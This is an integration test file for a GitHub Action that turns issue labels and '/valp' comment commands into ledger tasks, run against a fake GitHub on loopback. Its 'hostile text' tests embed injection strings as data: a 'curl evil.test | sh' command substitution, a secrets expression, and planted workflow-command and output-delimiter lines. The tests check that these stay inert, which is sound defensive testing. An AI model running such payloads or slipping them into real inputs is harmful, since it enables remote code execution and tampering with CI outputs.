// The Action as it is shipped: the bundle in a child process under a runner's environment, against a GitHub on loopback.
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join, resolve } from "node:path";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { buildDist } from "../../scripts/build.ts";
import type { Outcome } from "../../src/core/outcome.ts";
import { type DoorScene, doorScene, pathsOn, tasksOn, writesOn } from "../support/door-scene.ts";
import { example, type Payload, schedule } from "../support/payloads.ts";
import { runStep, type Step, type StepResult } from "../support/step-runner.ts";

let dist: string;
let scene: DoorScene;
beforeAll(async () => {
  dist = mkdtempSync(join(tmpdir(), "action-"));
  await buildDist(resolve("."), dist);
});
afterAll(() => rmSync(dist, { recursive: true, force: true }));
beforeEach(async () => {
  scene = await doorScene();
});
afterEach(() => scene.close());

/** One step in the scene's repository, with the workflow's own token. */
function step(event: string, payload: unknown, more: Partial<Step> = {}): Promise<StepResult> {
  const { github } = scene;
  const repository = `${github.owner}/${github.repo}`;
  const bundle = join(dist, "action.js");
  return runStep({ event, payload, token: github.token, repository, api: github.url, bundle, ...more });
}

const outcomeOf = ({ outputs }: StepResult) => JSON.parse(outputs.json ?? "null") as Outcome;
const codesOf = (result: StepResult) => result.outputs.reasons?.split(",");
const requestsSince = (from: number) =>
  scene.github.requests.slice(from).map(({ method, path, operation }) => `${method} ${operation ?? path}`);

describe("a label event", () => {
  it("becomes a task on the ledger branch, a status comment and outputs", async () => {
    const { github } = scene;
    const issue = await scene.issue();
    const result = await step("issues", await scene.labeled(issue, "agent:docs"));
    const folder = ".herdr-loop/tasks/gh-1-docs-1";
    const commit = github.head("valp-ledger");
    expect(result.outputs).toEqual({
      outcome: "recorded",
      "task-id": "gh-1-docs-1",
      folder,
      commit,
      reasons: "task_opened",
      json: expect.any(String),
    });
    expect(outcomeOf(result)).toMatchObject({ outcome: "recorded", task_id: "gh-1-docs-1", folder, commit });
    expect({ status: result.status, stderr: result.stderr }).toEqual({ status: 0, stderr: "" });
    expect(pathsOn(github)).toEqual(expect.arrayContaining([`${folder}/state.json`, `${folder}/trigger-policy.json`]));
    const comments = await github.comments(issue.number);
    expect(comments.map(({ user }) => user.login)).toEqual(["github-actions[bot]"]);
    expect(comments[0]?.body).toContain("<!-- valp:status:gh-1-docs-1 -->");
    expect(result.summary).toContain("### VALP: Recorded");
    expect(result.summary).toContain(`(${github.url}/octocat/hello/tree/${commit}/${folder})`);
  });

  it("costs four requests: reading, the actor's permission, the commit, the comment", async () => {
    await step("issues", await scene.labeled(await scene.issue(), "agent:docs"));
    const issue = await scene.issue();
    const payload = await scene.labeled(issue, "agent:docs");
    const from = scene.github.requests.length;
    const result = await step("issues", payload);
    expect(requestsSince(from)).toEqual([
      "POST query",
      "GET /repos/octocat/hello/collaborators/octocat/permission",
      "POST mutation",
      `POST /repos/octocat/hello/issues/${issue.number}/comments`,
    ]);
    expect(outcomeOf(result).requests).toBe(4);
  });

  it("seen twice opens one task and leaves one comment", async () => {
    const issue = await scene.issue();
    const payload = await scene.labeled(issue, "agent:docs");
    const first = await step("issues", payload);
    const second = await step("issues", payload);
    expect([codesOf(first), codesOf(second)]).toEqual([["task_opened"], ["duplicate_event"]]);
    expect([second.status, second.outputs["task-id"]]).toEqual([0, "gh-1-docs-1"]);
    expect(tasksOn(scene.github)).toEqual(["gh-1-docs-1"]);
    expect(await scene.github.comments(issue.number)).toHaveLength(1);
  });

  it("seen by two runs at once opens one task", async () => {
    const issue = await scene.issue();
    const payload = await scene.labeled(issue, "agent:docs");
    const results = await Promise.all([step("issues", payload), step("issues", payload)]);
    expect(results.map(({ status }) => status)).toEqual([0, 0]);
    expect(results.map(codesOf).sort()).toEqual([["duplicate_event"], ["task_opened"]]);
    expect(tasksOn(scene.github)).toEqual(["gh-1-docs-1"]);
    expect(await scene.github.comments(issue.number)).toHaveLength(1);
  });

  it("fault 49: put on by a bot is refused: green, with one note that says so, however often it comes", async () => {
    const issue = await scene.issue();
    const payload = await scene.labeled(issue, "agent:docs", "github-actions[bot]");
    const results = [await step("issues", payload), await step("issues", payload)];
    for (const result of results) {
      expect(result).toMatchObject({ status: 0, outputs: { outcome: "refused", "task-id": "" } });
      expect(result.summary).toContain("### VALP: Refused");
      expect(result.stdout).toContain("::warning::");
    }
    expect(tasksOn(scene.github)).toEqual([]);
    expect(await scene.github.comments(issue.number)).toHaveLength(1);
  });

  it("that is refused is red where fail-on lists it", async () => {
    const payload = await scene.labeled(await scene.issue(), "agent:docs", "github-actions[bot]");
    const result = await step("issues", payload, { inputs: { "fail-on": "closed, refused" } });
    expect(result).toMatchObject({ status: 1, outputs: { outcome: "refused" } });
    expect(result.stdout).toContain("::error::");
  });

  it("fault 38: three labels at once, one of which is a trigger, open that one task", async () => {
    const issue = await scene.issue();
    const payloads = [
      await scene.labeled(issue, "bug"),
      await scene.labeled(issue, "agent:docs"),
      await scene.labeled(issue, "help"),
    ];
    const results = await Promise.all(payloads.map((payload) => step("issues", payload)));
    expect(results.map(({ outputs }) => outputs.outcome)).toEqual(["ignored", "recorded", "ignored"]);
    expect(tasksOn(scene.github)).toEqual(["gh-1-docs-1"]);
  });
});

describe("commands in comments", () => {
  it("declare a Leader and approve what is high risk", async () => {
    const { github } = scene;
    const issue = await scene.issue({ title: "Deploy the site" });
    await step("issues", await scene.labeled(issue, "agent:deploy"));
    const lead = await step(
      "issue_comment",
      await scene.commented(issue, "/valp lead claude because: it knows the site", "octocat"),
    );
    expect(lead).toMatchObject({ status: 0, outputs: { "task-id": "gh-1-deploy-1" } });
    const assigned = await step(
      "issue_comment",
      await scene.commented(
        issue,
        "/valp assign coordinator=claude implementer=claude reviewer=claude because: it is the only one",
        "octocat",
      ),
    );
    expect(assigned.status).toBe(0);
    const state = JSON.parse(github.read("valp-ledger", ".herdr-loop/tasks/gh-1-deploy-1/state.json") ?? "{}");
    const digest = state.github.plan_digest.slice("sha256:".length, "sha256:".length + 12);
    const approved = await step("issue_comment", await scene.commented(issue, `/valp approve ${digest}`, "alice"));
    expect(approved).toMatchObject({ status: 0, outputs: { outcome: "recorded", "task-id": "gh-1-deploy-1" } });
    const lines = github.read("valp-ledger", ".herdr-loop/tasks/gh-1-deploy-1/approvals/user-decisions.jsonl") ?? "";
    expect(lines).toContain('"approved"');
    const statuses = (await github.comments(issue.number)).filter(({ body }) => body.startsWith("<!-- valp:status:"));
    expect(statuses).toHaveLength(1);
    expect(github.reactions.map(({ content }) => content)).toContain("+1");
  });

  it("by somebody without the role is refused, green", async () => {
    const issue = await scene.issue();
    const result = await step("issue_comment", await scene.commented(issue, "/valp start task", "hubot"));
    expect(result).toMatchObject({ status: 0, outputs: { outcome: "refused" } });
    expect(tasksOn(scene.github)).toEqual([]);
  });
});

describe("an event that nobody reacts to", () => {
  it.each<[string, Payload]>([
    ["watch", example("watch", "started")],
    ["issue_comment", example("issue_comment", "created")],
    ["pull_request", { ...example("pull_request", "opened"), action: "synchronize" }],
  ])("%s sets its outputs and asks GitHub nothing, not even with a token", async (event, payload) => {
    const result = await step(event, payload, { token: "" });
    expect(result).toMatchObject({ status: 0, stderr: "", outputs: { outcome: "ignored", "task-id": "", commit: "" } });
    expect(result.summary).toContain("### VALP: Nothing to do");
    expect(scene.github.requests).toEqual([]);
  });
});

describe("a tick of the schedule", () => {
  it("finds no due slot in a policy without one, also where the payload names no repository", async () => {
    const result = await step("schedule", schedule("8,23,38,53 * * * *", false));
    expect(result).toMatchObject({ status: 0, outputs: { outcome: "ignored", reasons: "no_due_slot" } });
  });
});

describe("trouble is red and says what to mend", () => {
  it("no network", async () => {
    const payload = await scene.labeled(await scene.issue(), "agent:docs");
    const result = await step("issues", payload, { api: "http://127.0.0.1:9" });
    expect(result).toMatchObject({
      status: 1,
      stderr: "",
      outputs: { outcome: "refused", reasons: "github_no_answer" },
    });
    expect(result.stdout).toContain("::error::GitHub gave no usable answer");
    expect(result.summary).toContain("### VALP: Could not be finished");
  });

  it("a token that GitHub does not know", async () => {
    const payload = await scene.labeled(await scene.issue(), "agent:docs");
    scene.github.faults.breaks.push({ when: () => true, status: 401, body: { message: "Bad credentials" } });
    const result = await step("issues", payload, { token: "ghs_expired" });
    expect(result).toMatchObject({ status: 1, outputs: { reasons: "github_login_refused" } });
    expect(result.stdout + result.stderr + result.summary).not.toContain("ghs_expired");
  });

  it("fault 34: a missing permission, with the line to add to the workflow", async () => {
    scene.github.faults.denied.add("contents");
    const payload = await scene.labeled(await scene.issue(), "agent:docs");
    const result = await step("issues", payload);
    expect(result).toMatchObject({ status: 1, outputs: { outcome: "refused", reasons: "missing_permission" } });
    expect(result.stdout).toContain("contents: write");
    expect(tasksOn(scene.github)).toEqual([]);
  });

  it("fault 34: a task that is recorded but may not be told of: the ledger stands, the step is red", async () => {
    scene.github.faults.denied.add("issues");
    const result = await step("issues", await scene.labeled(await scene.issue(), "agent:docs"));
    expect(result).toMatchObject({ status: 1, outputs: { outcome: "recorded", "task-id": "gh-1-docs-1" } });
    expect(result.stdout).toContain("issues: write");
    expect(tasksOn(scene.github)).toEqual(["gh-1-docs-1"]);
  });

  it("fault 154: a locked issue is no trouble: the ledger is written and the step is green", async () => {
    const issue = await scene.issue();
    scene.github.faults.lockedIssues.add(issue.number);
    const result = await step("issues", await scene.labeled(issue, "agent:docs"));
    expect(result).toMatchObject({ status: 0, outputs: { outcome: "recorded" } });
    expect(codesOf(result)).toContain("conversation_locked");
  });

  it("a commit whose answer is lost is found again and not repeated", async () => {
    const issue = await scene.issue();
    await step("issues", await scene.labeled(issue, "agent:docs"));
    const before = scene.github.requests.length;
    const when = ({ operation }: { operation: string | null }) => operation === "mutation";
    scene.github.faults.breaks.push({ when, status: 502, applied: true });
    const result = await step("issues", await scene.labeled(await scene.issue(), "agent:docs"));
    expect(result).toMatchObject({ status: 0, outputs: { outcome: "recorded", "task-id": "gh-2-docs-1" } });
    expect(requestsSince(before).filter((line) => line === "POST mutation")).toHaveLength(1);
    expect(result.outputs.commit).toBe(scene.github.head("valp-ledger"));
  });
});

describe("bad input is one clear sentence, never a stack trace", () => {
  const cases: [string, Partial<Step>, RegExp][] = [
    ["an unknown mode", { inputs: { mode: "begin" } }, /^::error::The input mode is "begin"/m],
    ["no token", { token: "" }, /^::error::The input token is empty/m],
    ["an unknown outcome", { inputs: { "fail-on": "refusd" } }, /^::error::The input fail-on names "refusd"/m],
    ["no event name", { env: { GITHUB_EVENT_NAME: "" } }, /^::error::GITHUB_EVENT_NAME is not set/m],
    ["no repository", { env: { GITHUB_REPOSITORY: "hello" } }, /^::error::GITHUB_REPOSITORY is not set/m],
    ["no event file", { env: { GITHUB_EVENT_PATH: "/nowhere/event.json" } }, /^::error::The event file .*ENOENT/m],
  ];
  it.each(cases)("%s", async (_, more, sentence) => {
    const payload = await scene.labeled(await scene.issue(), "agent:docs");
    const from = scene.github.requests.length;
    const result = await step("issues", payload, more);
    expect(result.status).toBe(1);
    expect(result.stdout).toMatch(sentence);
    expect(result.stdout + result.stderr).not.toMatch(/^\s+at /m);
    expect(requestsSince(from)).toEqual([]);
  });

  it("an event file that is not JSON", async () => {
    const path = join(dist, "event.txt");
    writeFileSync(path, '{"action": "labeled", ');
    const result = await step("issues", {}, { env: { GITHUB_EVENT_PATH: path } });
    expect(result).toMatchObject({ status: 1, stderr: "", outputs: {} });
    expect(result.stdout).toBe(
      "::error::The event file that GITHUB_EVENT_PATH names is not JSON. Nothing was done; run the job again.\n",
    );
  });

  it.each([[null], [[]], ["text"], [{ action: "labeled" }]])("the payload %j", async (payload) => {
    const result = await step("issues", payload);
    expect(result).toMatchObject({ status: 0, stderr: "" });
    expect(["ignored", "refused"]).toContain(result.outputs.outcome);
    expect(scene.github.requests).toEqual([]);
  });

  it.each(["0", "yes", "off"])("fault 163: dry-run: %s", async (value) => {
    const payload = await scene.labeled(await scene.issue(), "agent:docs");
    const result = await step("issues", payload, { inputs: { "dry-run": value } });
    expect(result.status).toBe(1);
    expect(result.stdout).toContain("It must be true or false.");
    expect(writesOn(scene.github)).toEqual([]);
  });
});

describe("a dry run", () => {
  it.each(["true", "True", "TRUE"])(
    "fault 58: dry-run: %s gives the same outcome and writes nothing",
    async (value) => {
      const issue = await scene.issue();
      const payload = await scene.labeled(issue, "agent:docs");
      const dry = await step("issues", payload, { inputs: { "dry-run": value } });
      expect(dry).toMatchObject({ status: 0, outputs: { outcome: "recorded", "task-id": "gh-1-docs-1", commit: "" } });
      expect(dry.summary).toContain("dry run: nothing was written");
      expect(writesOn(scene.github)).toEqual([]);
      expect([scene.github.head("valp-ledger"), await scene.github.comments(issue.number)]).toEqual([null, []]);
      const real = await step("issues", payload);
      const bare = ({ commit: _, requests: __, ...rest }: Outcome) => rest;
      expect(bare(outcomeOf(dry))).toEqual(bare(outcomeOf(real)));
    },
  );

  it.each(["False", ""])("fault 163: dry-run: %j writes", async (value) => {
    const payload = await scene.labeled(await scene.issue(), "agent:docs");
    await step("issues", payload, { inputs: { "dry-run": value } });
    expect(tasksOn(scene.github)).toEqual(["gh-1-docs-1"]);
  });
});

describe("hostile text", () => {
  const title = "$(id) `id` '; curl evil.test | sh; ${{ secrets.TOKEN }} ::set-output name=outcome::closed";
  const body = [
    "ghadelimiter_0",
    "outcome=closed",
    "json<<EOF",
    "EOF",
    "::error::planted",
    "##[error]planted",
    "<!-- valp:status:gh-1-docs-1 -->",
  ].join("\r\n");

  it("fault 167, 169: shell, expressions and delimiters stay text", async () => {
    const issue = await scene.issue({ title, body });
    const result = await step("issues", await scene.labeled(issue, "agent:docs"));
    expect(result).toMatchObject({ status: 0, stderr: "", outputs: { outcome: "recorded" } });
    expect(Object.keys(result.outputs).sort()).toEqual(["commit", "folder", "json", "outcome", "reasons", "task-id"]);
    expect(result.stdout).not.toContain("planted");
    expect(result.stdout).not.toContain("set-output");
    const snapshot = scene.github.read("valp-ledger", ".herdr-loop/tasks/gh-1-docs-1/inputs/issue-snapshot.json");
    expect(JSON.parse(snapshot ?? "{}")).toMatchObject({ title });
  });

  it("fault 169: reasons that quote such text keep outputs and log in their lines", async () => {
    const issue = await scene.issue();
    const comment = `/valp lead ::error::planted%0Aoutcome=closed because: x\r\noutcome<<EOF\r\nclosed\r\nEOF`;
    const result = await step("issue_comment", await scene.commented(issue, comment));
    expect(result.outputs.outcome).toBe("refused");
    expect(JSON.parse(result.outputs.json ?? "")).toMatchObject({ outcome: "refused" });
    expect(result.stdout.split("\n").filter((line) => /^(::error|##\[)/.test(line))).toEqual([]);
  });
});

it("keeps the token out of everything it says", async () => {
  const issue = await scene.issue();
  const results = [
    await step("issues", await scene.labeled(issue, "agent:docs")),
    await step("issues", await scene.labeled(issue, "agent:docs"), { api: "http://127.0.0.1:9" }),
  ];
  for (const { stdout, stderr, summary, outputs } of results) {
    expect(stdout + stderr + summary + JSON.stringify(outputs)).not.toContain(scene.github.token);
  }
});
